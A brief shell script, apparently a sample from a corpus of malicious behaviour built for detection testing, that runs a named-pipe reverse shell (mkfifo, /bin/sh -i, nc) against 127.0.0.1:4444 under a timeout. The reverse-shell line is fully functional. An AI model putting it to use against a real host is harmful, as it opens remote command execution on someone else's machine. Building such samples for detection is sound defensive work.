#!/bin/sh
# MALICIOUS-behaviour corpus sample (harmless): the named-pipe reverse shell (T1059.004). What
# the "attacker" would type comes back through /tmp/.f into an interactive shell whose output
# goes to nc; nothing listens on 127.0.0.1:4444, so nc fails at once and the pipeline ends.
rm -f /tmp/.f
mkfifo /tmp/.f
/bin/timeout 5 /bin/sh -c 'cat /tmp/.f | /bin/sh -i 2>&1 | /bin/nc 127.0.0.1 4444 > /tmp/.f'
rm -f /tmp/.f
echo "[corpus] fifo shell done"
